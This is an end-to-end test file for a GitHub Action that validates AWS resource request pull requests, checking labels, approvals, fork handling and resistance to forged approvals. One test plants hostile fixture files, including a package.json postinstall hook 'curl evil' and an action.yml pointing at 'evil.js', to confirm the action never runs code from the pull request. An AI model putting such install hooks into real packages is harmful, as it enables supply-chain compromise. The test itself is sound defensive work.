import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { pullRequestEventFor, reviewEventFor, workflowDispatchEvent, workflowRunEvent } from './harness/events.js';
import { FULL_ACCESS, READ_ONLY, secondaryRateLimit, serverError, startFakeGitHub, type FakeGitHub, type PullFileSeed } from './harness/fake-github.js';
import { nodeRuntimes, runAction } from './harness/run-action.js';
import { ROOT } from './helpers.js';

// The committed dist/index.js, run as the runner runs it, against a local GitHub that
// refuses anything GitHub would not accept.

// Octokit's throttling spaces writes a second apart, as GitHub asks of integrations: runs take seconds.
vi.setConfig({ testTimeout: 120_000 });

const ORG = 'octo-org';
const AUTHOR = 'maria-researcher';
let workspace: string;
let github: FakeGitHub;

const sample = (path: string): string => readFileSync(join(ROOT, path), 'utf8');
const INSTANCE = 'requests/ex/ex-nutrition-analysis.yml';
const DASHBOARD = 'requests/ex/ex-roads-dashboard.yml';

beforeAll(() => {
  // The trusted base checkout: the shipped policy and sample inventory.
  workspace = mkdtempSync(join(tmpdir(), 'aws-requests-e2e-'));
  cpSync(join(ROOT, 'policy.yml'), join(workspace, 'policy.yml'));
  cpSync(join(ROOT, 'requests'), join(workspace, 'requests'), { recursive: true });
});
afterAll(() => rmSync(workspace, { recursive: true, force: true }));

beforeEach(async () => {
  github = await startFakeGitHub({
    tokens: { 'test-token': FULL_ACCESS, 'fork-token': READ_ONLY, 'no-statuses-token': { ...FULL_ACCESS, statuses: 'read' } },
  });
  github.setTeam(`${ORG}/dime-analytics`, { analyst: 'active' });
  github.setTeam(`${ORG}/ois-reviewers`, { 'ois-officer': 'active' });
});

afterEach(async () => {
  try {
    github.expectNoViolations();
  } finally {
    await github.close();
  }
});

/** A computation change: a bigger system disk for the sample instance. */
const computationFile = (): PullFileSeed => ({ filename: INSTANCE, status: 'modified', text: sample(INSTANCE).replace('rootGiB: 100', 'rootGiB: 150'), baseText: sample(INSTANCE) });

/** A new public scraping server in development: an application. */
const applicationFile = (): PullFileSeed => ({
  filename: 'requests/ex/ex-roads-scraper.yml',
  status: 'added',
  text: sample(DASHBOARD).replace('purpose: A public Shiny server showing the market-access dashboard.', 'purpose: Scrapes market prices.'),
});

async function judge(number: number, options: { eventName?: string; payload?: unknown; node?: string; token?: string; env?: Record<string, string> } = {}) {
  const result = await runAction({
    eventName: options.eventName ?? 'pull_request_target',
    payload: options.payload ?? pullRequestEventFor(github, 'synchronize', number),
    github,
    workspace,
    node: options.node,
    token: options.token,
    env: options.env,
  });
  return result;
}

function statuses(number: number): Record<string, [string, string]> {
  const latest = github.latestStatuses(github.pull(number).head.sha);
  return Object.fromEntries(Object.entries(latest).map(([context, s]) => [context, [s.state, s.description ?? '']]));
}

function requested(number: number): { users: string[]; teams: string[] } {
  const pull = github.pull(number) as unknown as { requested_reviewers: { users: string[]; teams: string[] } };
  return pull.requested_reviewers;
}

describe.each(nodeRuntimes().map((r) => [`Node ${r.major}`, r.path] as const))('a computation pull request on %s', (_name, node) => {
  it('is labelled, asks DIME Analytics, passes validation and waits, then passes after an approval', async () => {
    github.addPull({ number: 7, user: AUTHOR, files: [computationFile()] });
    const first = await judge(7, { node, payload: pullRequestEventFor(github, 'opened', 7) });
    expect(first.code, first.stderr + first.stdout).toBe(0);
    expect(github.labelsOn(7)).toEqual(['computation']);
    expect(requested(7)).toMatchObject({ teams: ['dime-analytics'] });
    expect(statuses(7)).toEqual({
      'aws-requests/validation': ['success', 'Valid: 1 request checked.'],
      'aws-requests/approvals': ['pending', 'Waiting: DIME Analytics: 0 of 1 approvals'],
    });
    expect(first.outputs).toMatchObject({ 'use-case': 'computation', valid: 'true', 'approvals-satisfied': 'false', labels: '["computation"]' });
    const [comment] = github.commentsOn(7);
    expect(comment!.body).toContain('changed ec2-instance `ex-nutrition-analysis` — **computation**');
    expect(comment!.body).toContain(`/blob/${github.pull(7).head.sha}/requests/ex/ex-nutrition-analysis.yml#L11`);

    const review = github.addReview(7, { user: 'analyst', state: 'APPROVED' });
    const second = await judge(7, { node, eventName: 'pull_request_review', payload: reviewEventFor(github, 'submitted', 7, review.id) });
    expect(second.code).toBe(0);
    expect(statuses(7)['aws-requests/approvals']).toEqual(['success', 'Approved: DIME Analytics (analyst)']);
    expect(github.commentsOn(7)).toHaveLength(1);
    expect(github.commentsOn(7)[0]!.body).toContain('approved by analyst');
  });
});

describe('an application pull request', () => {
  it('needs OIS, and only a valid OIS approval on the head commit counts', async () => {
    github.addPull({ number: 8, user: AUTHOR, files: [applicationFile()] });
    await judge(8, { payload: pullRequestEventFor(github, 'opened', 8) });
    expect(github.labelsOn(8).sort()).toEqual(['application', 'ois-approval-required']);
    expect(requested(8).teams.sort()).toEqual(['dime-analytics', 'ois-reviewers']);
    expect(statuses(8)['aws-requests/approvals']![0]).toBe('pending');

    const pull = github.pull(8);
    // None of these count: the author, someone outside OIS, an approval of an old commit, and an approval withdrawn.
    github.addReview(8, { user: AUTHOR, state: 'APPROVED' });
    github.addReview(8, { user: 'random-person', state: 'APPROVED' });
    github.addReview(8, { user: 'analyst', state: 'APPROVED' });
    github.addReview(8, { user: 'ois-officer', state: 'APPROVED', commit_id: pull.base.sha });
    const last = github.addReview(8, { user: 'ois-officer', state: 'CHANGES_REQUESTED' });
    await judge(8, { eventName: 'pull_request_review', payload: reviewEventFor(github, 'submitted', 8, last.id) });
    expect(statuses(8)['aws-requests/approvals']).toEqual(['pending', 'Waiting: Office of Information Security (OIS): 0 of 1 approvals']);
    expect(github.labelsOn(8)).toContain('ois-approval-required');

    const approval = github.addReview(8, { user: 'ois-officer', state: 'APPROVED' });
    const result = await judge(8, { eventName: 'pull_request_review', payload: reviewEventFor(github, 'submitted', 8, approval.id) });
    expect(statuses(8)['aws-requests/approvals']![0]).toBe('success');
    expect(github.labelsOn(8)).toEqual(['application']);
    expect(result.outputs['approvals-satisfied']).toBe('true');
  });
});

describe('an invalid request', () => {
  it('is annotated on its line, labelled invalid, and fails validation', async () => {
    const text = sample(INSTANCE).replace('instanceType: r6i.xlarge', 'instanceType: r6i.xlarg');
    github.addPull({ number: 9, user: AUTHOR, files: [{ filename: INSTANCE, status: 'modified', text, baseText: sample(INSTANCE) }] });
    const result = await judge(9);
    expect(result.code).toBe(1);
    expect(result.annotations).toContainEqual(expect.objectContaining({ level: 'error', file: INSTANCE, line: 7, col: 15, message: expect.stringContaining('did you mean `r6i.xlarge`?') }));
    expect(github.labelsOn(9)).toEqual(['computation', 'invalid']);
    expect(statuses(9)['aws-requests/validation']).toEqual(['failure', '1 error in 1 file: see the pull-request comment.']);
  });

  it('is not judged on the part of a file GitHub sends when it cuts the text short', async () => {
    // Software listed after the cut would be missed: a request judged on its first part could pass as computation.
    github.state.blobTextLimit = 400;
    const text = `${sample(INSTANCE)}${'# notes\n'.repeat(100)}`;
    github.addPull({ number: 10, user: AUTHOR, files: [{ filename: INSTANCE, status: 'modified', text, baseText: sample(INSTANCE) }] });
    const result = await judge(10);
    expect(result.code).toBe(1);
    expect(result.annotations).toContainEqual(expect.objectContaining({ level: 'error', file: INSTANCE, line: 1, col: 1, message: "This file is too large for GitHub's API to send whole, so it cannot be judged: make it smaller or split it." }));
    expect(github.labelsOn(10)).toEqual(['invalid']);
  });

  it('stays invalid when the same pull request loosens the schemas and the policy, and is labelled policy', async () => {
    const open = JSON.stringify({ $schema: 'https://json-schema.org/draft/2020-12/schema', $id: 'ec2-instance.schema.json', type: 'object' });
    github.addPull({
      number: 10,
      user: AUTHOR,
      files: [
        { filename: 'schemas/ec2-instance.schema.json', status: 'modified', text: open },
        { filename: 'policy.yml', status: 'modified', text: sample('policy.yml').replace('maxFileBytes:', 'unknownField: true\n  maxFileBytes:'), baseText: sample('policy.yml') },
        { filename: 'dist/index.js', status: 'modified', text: 'process.exit(0)' },
        { filename: 'action.yml', status: 'modified', text: 'runs: {using: node24, main: evil.js}' },
        { filename: 'package.json', status: 'modified', text: '{"scripts": {"postinstall": "curl evil"}}' },
        { filename: '.github/workflows/aws-requests.yml', status: 'modified', text: 'on: push' },
        { filename: 'requests/ex/ex-anything.yml', status: 'added', text: 'kind: ec2-instance\nproject: ex-nutrition\nanything: goes\n' },
      ],
    });
    // Whatever the head holds, the Action starts no process: a preload turns every way of starting one into a logged error.
    const spawnLog = join(workspace, '..', `spawned-${process.pid}.log`);
    writeFileSync(spawnLog, '');
    const result = await judge(10, { env: { NODE_OPTIONS: `--require ${join(ROOT, 'test/harness/no-spawn.cjs')}`, NO_SPAWN_LOG: spawnLog } });
    expect(readFileSync(spawnLog, 'utf8')).toBe('');
    rmSync(spawnLog);
    expect(result.stdout).toContain('has invalid requests');
    expect(github.labelsOn(10).sort()).toEqual(['invalid', 'ois-approval-required', 'policy']);
    expect(statuses(10)['aws-requests/validation']![0]).toBe('failure');
    // Only request files are read from the head, and policy.yml as data for the impact report: never the
    // schemas, code, manifest or workflows. The requests are judged by the base branch's policy and schemas.
    // (Blobs are read as `f` variables; `d` variables list folders, for file modes.)
    const variables = github.requests.filter((r) => r.path === '/graphql').flatMap((r) => Object.entries((r.body as { variables: Record<string, string> }).variables));
    const blobs = variables.filter(([name, v]) => name.startsWith('f') && v.includes(':')).map(([, v]) => v.slice(v.indexOf(':') + 1));
    expect(blobs.filter((p) => !p.startsWith('requests/'))).toEqual(['policy.yml']);
    expect(result.annotations).toContainEqual(expect.objectContaining({ level: 'error', file: 'requests/ex/ex-anything.yml', message: expect.stringContaining('Unknown field `anything`') }));
  });
});

describe('a large pull request', () => {
  it('reads 250 files in pages and batches, not one request per file', async () => {
    const files: PullFileSeed[] = Array.from({ length: 250 }, (_, i) => ({
      filename: `requests/bulk/dime-bulk-${i}.yml`,
      status: 'added',
      text: sample('requests/ex/dime-ex-nutrition-raw.yml').replace('bucket: dime-ex-nutrition-raw', `bucket: dime-bulk-${i}`),
    }));
    github.addPull({ number: 11, user: AUTHOR, files });
    const result = await judge(11);
    expect(result.code, result.stderr).toBe(0);
    const calls = github.calls();
    expect(calls.filter((c) => c.includes('/files'))).toHaveLength(3);
    expect(calls.filter((c) => c.includes('/graphql'))).toHaveLength(3);
    expect(statuses(11)['aws-requests/validation']).toEqual(['success', 'Valid: 250 requests checked.']);
  });

  it('makes a constant number of requests on synchronize for up to 100 files', async () => {
    const counts: number[] = [];
    for (const [i, size] of [1, 10, 100].entries()) {
      const number = 20 + i;
      const files: PullFileSeed[] = Array.from({ length: size }, (_, j) => ({
        filename: `requests/bulk/dime-sync-${number}-${j}.yml`,
        status: 'added',
        text: sample('requests/ex/dime-ex-nutrition-raw.yml').replace('bucket: dime-ex-nutrition-raw', `bucket: dime-sync-${number}-${j}`),
      }));
      github.addPull({ number, user: AUTHOR, files });
      await judge(number, { payload: pullRequestEventFor(github, 'opened', number) });
      github.resetLog();
      await judge(number);
      counts.push(github.requests.length);
    }
    expect(counts).toEqual([8, 8, 8]);
  });
});

describe('a pull request too large to list', () => {
  it('fails closed with an error status', async () => {
    const files: PullFileSeed[] = Array.from({ length: 3001 }, (_, i) => ({ filename: `docs/page-${i}.md`, status: 'added', text: '# page' }));
    github.addPull({ number: 30, user: AUTHOR, files });
    const result = await judge(30);
    expect(result.code).toBe(1);
    expect(statuses(30)['aws-requests/validation']![0]).toBe('error');
    expect(statuses(30)['aws-requests/validation']![1]).toContain('3001 files');
    expect(github.commentsOn(30)).toEqual([]);
  });
});

describe('reruns and races', () => {
  it('leaves one comment and no duplicate labels or reviewer requests after three reruns and two runs at once', async () => {
    github.addPull({ number: 12, user: AUTHOR, files: [applicationFile()] });
    for (let i = 0; i < 3; i++) await judge(12);
    await Promise.all([judge(12), judge(12)]);
    expect(github.commentsOn(12)).toHaveLength(1);
    expect(github.labelsOn(12).sort()).toEqual(['application', 'ois-approval-required']);
    const reviewerPosts = github.requests.filter((r) => r.method === 'POST' && r.path.endsWith('/requested_reviewers'));
    expect(reviewerPosts).toHaveLength(1);
  });

  it('writes no status for a commit that is no longer the head', async () => {
    github.addPull({ number: 13, user: AUTHOR, files: [computationFile()] });
    const old = github.pull(13).head.sha;
    // The head moves between the first read of the pull request and the re-read before statuses.
    const original = github.state.pulls.find((p) => p.number === 13)!;
    const result = runAction({ eventName: 'pull_request_target', payload: pullRequestEventFor(github, 'synchronize', 13), github, workspace });
    // The fake answers on this process's event loop, so this runs between the Action's requests.
    const timer = setInterval(() => {
      const reads = github.requests.filter((r) => r.method === 'GET' && r.path.endsWith('/pulls/13')).length;
      if (reads >= 1 && original.head.sha === old) original.head.sha = 'f'.repeat(40);
    }, 1);
    await result;
    clearInterval(timer);
    expect(github.latestStatuses(old)).toEqual({});
  });
});

describe('GitHub failing', () => {
  it('retries 502 and secondary rate limits and still writes each thing once', async () => {
    github.addPull({ number: 14, user: AUTHOR, files: [computationFile()] });
    github.failNext({ method: 'GET', path: /\/pulls\/14\/files/ }, [serverError(502)]);
    github.failNext({ method: 'POST', path: /\/statuses\// }, [secondaryRateLimit(1)]);
    const result = await judge(14);
    expect(result.code, result.stderr + result.stdout).toBe(0);
    expect(github.commentsOn(14)).toHaveLength(1);
    expect(Object.keys(statuses(14)).sort()).toEqual(['aws-requests/approvals', 'aws-requests/validation']);
    expect(github.pendingFaults()).toBe(0);
  });

  it('names the missing `statuses: write`, after writing labels and the comment, and no stack trace', async () => {
    github.addPull({ number: 16, user: AUTHOR, files: [computationFile()] });
    const result = await judge(16, { token: 'no-statuses-token' });
    expect(result.code).toBe(1);
    const errors = result.annotations.filter((a) => a.level === 'error');
    expect(errors).toHaveLength(1);
    expect(errors[0]!.message).toContain('give the workflow job `statuses: write`');
    expect(result.stdout + result.stderr).not.toMatch(/\n\s+at /);
    expect(github.labelsOn(16)).toEqual(['computation']);
    expect(github.commentsOn(16)).toHaveLength(1);
    expect(statuses(16)).toEqual({});
  });

  it('names the missing permission instead of a stack trace', async () => {
    github.addPull({ number: 15, user: AUTHOR, files: [computationFile()] });
    const result = await judge(15, { token: 'fork-token' });
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(/::error::The token may not POST \/repos\/octo-org\/cloud-requests\/.*give the workflow job `issues: write`/);
    expect(result.stdout + result.stderr).not.toMatch(/\n\s+at /);
  });
});

describe('pull requests from forks', () => {
  it('exits cleanly on a fork review with a read-only token, and the relay completes it', async () => {
    github.addPull({ number: 16, user: 'outsider', head: { repo: { owner: 'outsider', name: 'cloud-requests' } }, files: [computationFile()] });
    const review = github.addReview(16, { user: 'analyst', state: 'APPROVED' });
    const forkRun = await judge(16, { eventName: 'pull_request_review', payload: reviewEventFor(github, 'submitted', 16, review.id), token: 'fork-token' });
    expect(forkRun.code).toBe(0);
    expect(forkRun.annotations).toContainEqual(expect.objectContaining({ level: 'notice', message: expect.stringContaining('relay workflow') }));
    expect(github.requests.filter((r) => r.method !== 'GET')).toEqual([]);

    const relay = await judge(16, {
      eventName: 'workflow_run',
      payload: workflowRunEvent({ displayTitle: 'aws-requests review relay #16', headSha: github.pull(16).head.sha, conclusion: 'success', event: 'pull_request_review' }),
    });
    expect(relay.code, relay.stdout).toBe(0);
    expect(statuses(16)['aws-requests/approvals']![0]).toBe('success');
  });

  it('refuses a relay whose commit is not the pull request head', async () => {
    github.addPull({ number: 17, user: 'outsider', head: { repo: { owner: 'outsider', name: 'cloud-requests' } }, files: [computationFile()] });
    const relay = await judge(17, {
      eventName: 'workflow_run',
      payload: workflowRunEvent({ displayTitle: 'aws-requests review relay #17', headSha: 'e'.repeat(40), conclusion: 'success', event: 'pull_request_review' }),
    });
    expect(relay.code).toBe(1);
    expect(github.requests.filter((r) => r.method !== 'GET')).toEqual([]);
  });
});

describe('other events', () => {
  it('judges a pull request again on a manual run', async () => {
    github.addPull({ number: 18, user: AUTHOR, files: [computationFile()] });
    const result = await judge(18, { eventName: 'workflow_dispatch', payload: workflowDispatchEvent({ inputs: { 'pull-request': '18' } }) });
    expect(result.code).toBe(0);
    expect(github.labelsOn(18)).toEqual(['computation']);
  });

  it('does nothing, successfully, on an event it does not handle', async () => {
    const result = await judge(1, { eventName: 'push', payload: { ref: 'refs/heads/main' } });
    expect(result.code).toBe(0);
    expect(github.requests).toEqual([]);
  });

  it('asks for the base checkout when policy.yml is missing', async () => {
    const empty = mkdtempSync(join(tmpdir(), 'aws-requests-empty-'));
    writeFileSync(join(empty, 'README.md'), 'not a checkout of the base branch');
    github.addPull({ number: 19, user: AUTHOR, files: [computationFile()] });
    const result = await runAction({ eventName: 'pull_request_target', payload: pullRequestEventFor(github, 'opened', 19), github, workspace: empty });
    rmSync(empty, { recursive: true, force: true });
    expect(result.code).toBe(1);
    expect(result.stdout).toContain('policy.yml was not found in the workspace. Check out the base branch');
  });
});

describe('documentation and policy pull requests', () => {
  it('takes a first-time contributor\'s docs fix from a fork through DIME Analytics only', async () => {
    const fork = { owner: 'first-timer', name: 'cloud-requests' };
    github.addPull({ number: 50, user: 'first-timer', head: { repo: fork }, files: [{ filename: 'docs/how-to-request.md', status: 'added', text: '# How to request\n\nSee [the policy](../policy.yml) and [nowhere](#nowhere).\n' }] });
    await judge(50, { payload: pullRequestEventFor(github, 'opened', 50) });
    expect(github.labelsOn(50).sort()).toEqual(['documentation', 'invalid']);
    expect(statuses(50)['aws-requests/validation']).toEqual(['failure', '1 error in 1 file: see the pull-request comment.']);
    expect(github.commentsOn(50)[0]!.body).toContain('No heading on this page has the anchor `#nowhere`');

    github.addCommit(github.pull(50).head.sha, { 'docs/how-to-request.md': '# How to request\n\nSee [the policy](../policy.yml).\n' });
    await judge(50);
    expect(github.labelsOn(50)).toEqual(['documentation']);
    expect(requested(50)).toEqual({ users: [], teams: ['dime-analytics'] });
    expect(statuses(50)).toEqual({
      'aws-requests/validation': ['success', 'Valid: 0 requests and 1 page checked.'],
      'aws-requests/approvals': ['pending', 'Waiting: DIME Analytics: 0 of 1 approvals'],
    });

    const review = github.addReview(50, { user: 'analyst', state: 'APPROVED' });
    const forkRun = await judge(50, { eventName: 'pull_request_review', payload: reviewEventFor(github, 'submitted', 50, review.id), token: 'fork-token' });
    expect(forkRun.code).toBe(0);
    await judge(50, { eventName: 'workflow_run', payload: workflowRunEvent({ displayTitle: 'aws-requests review relay #50', headSha: github.pull(50).head.sha, conclusion: 'success', event: 'pull_request_review' }) });
    expect(statuses(50)['aws-requests/approvals']).toEqual(['success', 'Approved: DIME Analytics (analyst)']);
  });

  it('asks OIS and DIME Analytics about a policy change that widens the catalogue, and lists its impact', async () => {
    const scraper = sample(DASHBOARD).replace('{name: shiny-server, source: download, why: serves the public dashboard}', 'chromedriver').replace(/  - \{port: 443.*\n/, '').replace('inbound:\n', 'inbound: []\n');
    writeFileSync(join(workspace, 'requests/ex/ex-roads-scraper.yml'), scraper);
    try {
      const policy = sample('policy.yml');
      github.addPull({ number: 51, user: AUTHOR, files: [{ filename: 'policy.yml', status: 'modified', baseText: policy, text: policy.replace('    - python3\n', '    - python3\n    - chromedriver\n') }] });
      await judge(51, { payload: pullRequestEventFor(github, 'opened', 51) });
    } finally {
      rmSync(join(workspace, 'requests/ex/ex-roads-scraper.yml'));
    }
    expect(github.labelsOn(51).sort()).toEqual(['ois-approval-required', 'policy']);
    expect(requested(51).teams.sort()).toEqual(['dime-analytics', 'ois-reviewers']);
    const body = github.commentsOn(51)[0]!.body;
    expect(body).toContain('### Policy impact');
    expect(body).toContain('`ex-roads-scraper` (`requests/ex/ex-roads-scraper.yml`): application → computation');
  });

  it('judges a change to the policy file the `policy` input names (written ./config/policy.yml) as a policy change', async () => {
    const policy = sample('policy.yml');
    mkdirSync(join(workspace, 'config'), { recursive: true });
    writeFileSync(join(workspace, 'config/policy.yml'), policy);
    try {
      github.addPull({ number: 52, user: AUTHOR, files: [{ filename: 'config/policy.yml', status: 'modified', baseText: policy, text: policy.replace('    - python3\n', '    - python3\n    - chromedriver\n') }] });
      const result = await runAction({ eventName: 'pull_request_target', payload: pullRequestEventFor(github, 'opened', 52), github, workspace, inputs: { policy: './config/policy.yml' } });
      expect(result.code, result.stdout).toBe(0);
    } finally {
      rmSync(join(workspace, 'config'), { recursive: true });
    }
    expect(github.labelsOn(52).sort()).toEqual(['ois-approval-required', 'policy']);
    expect(requested(52).teams.sort()).toEqual(['dime-analytics', 'ois-reviewers']);
    expect(github.commentsOn(52)[0]!.body).toContain('The proposed policy.yml changes security rules: more standard or pre-approved software.');
  });
});

describe('a reviewer GitHub will not ask', () => {
  it('asks everyone else, and names who could not be asked', async () => {
    // The group's owner must approve a membership change, but is not a collaborator of the repository.
    github.state.collaborators = [AUTHOR, 'analyst', 'ois-officer'];
    const GROUP = 'requests/groups/WBGMaster-DIME-EX-Admin.yml';
    const text = sample(GROUP).replace('members: [c123456, c234567, c345678]', 'members: [c123456, c234567, c345678, c456789]');
    github.addPull({ number: 12, user: AUTHOR, files: [{ filename: GROUP, status: 'modified', text, baseText: sample(GROUP) }] });
    const result = await judge(12);
    expect(result.code, result.stdout).toBe(0);
    expect(requested(12)).toEqual({ users: [], teams: ['dime-analytics'] });
    expect(result.annotations.map((a) => a.message)).toContainEqual(expect.stringMatching(/^Could not request reviews from alex-analyst: GitHub asks only collaborators and teams with access to the repository/));
  });
});

describe('team membership the token cannot read', () => {
  it('does not count a team member\'s approval, and says why, when the token cannot see teams', async () => {
    await github.close();
    github = await startFakeGitHub({ tokens: { 'test-token': { ...FULL_ACCESS, members: false } } });
    github.setTeam(`${ORG}/dime-analytics`, { analyst: 'active' });
    github.addPull({ number: 60, user: AUTHOR, files: [computationFile()] });
    github.addReview(60, { user: 'analyst', state: 'APPROVED' });
    await judge(60);
    expect(statuses(60)['aws-requests/approvals']).toEqual(['pending', 'Waiting: DIME Analytics: 0 of 1 approvals (team membership unreadable)']);
    expect(github.commentsOn(60)[0]!.body).toContain('cannot be confirmed (the token cannot read the team, as GITHUB\\_TOKEN cannot');
  });
});

describe('forged approvals', () => {
  it('never turn the approvals status green: the author approving, a label added by hand, a status posted by someone else', async () => {
    github.addPull({ number: 70, user: AUTHOR, labels: ['ois-approved'], files: [applicationFile()] });
    const head = github.pull(70).head.sha;
    github.addStatus({ sha: head, context: 'aws-requests/approvals', state: 'success', description: 'Approved by me', creator: AUTHOR });
    github.addReview(70, { user: AUTHOR, state: 'APPROVED' });
    await judge(70, { payload: pullRequestEventFor(github, 'opened', 70) });
    expect(statuses(70)['aws-requests/approvals']![0]).toBe('pending');
    expect(github.labelsOn(70)).toContain('ois-approved');
    expect(github.labelsOn(70)).toContain('ois-approval-required');
  });
});

describe('a review dismissed while the run evaluates', () => {
  it('leaves the approvals pending once the dismissal is judged', async () => {
    github.addPull({ number: 71, user: AUTHOR, files: [computationFile()] });
    const review = github.addReview(71, { user: 'analyst', state: 'APPROVED' });
    const running = judge(71, { eventName: 'pull_request_review', payload: reviewEventFor(github, 'submitted', 71, review.id) });
    // Dismissed right after the run has read the reviews, while it evaluates and writes.
    const timer = setInterval(() => {
      if (github.requests.some((r) => r.operationId === 'pulls/list-reviews')) review.state = 'DISMISSED';
    }, 1);
    const first = await running;
    clearInterval(timer);
    expect(first.code, first.stdout).toBe(0);
    expect(review.state).toBe('DISMISSED');
    // The dismissal starts its own run, which the workflow's concurrency group queues behind this one.
    const second = await judge(71, { eventName: 'pull_request_review', payload: reviewEventFor(github, 'dismissed', 71, review.id) });
    expect(second.code, second.stdout).toBe(0);
    expect(statuses(71)['aws-requests/approvals']).toEqual(['pending', 'Waiting: DIME Analytics: 0 of 1 approvals']);
    expect(github.commentsOn(71)).toHaveLength(1);
    expect(github.commentsOn(71)[0]!.body).toContain('- [ ] **DIME Analytics**');
  });
});
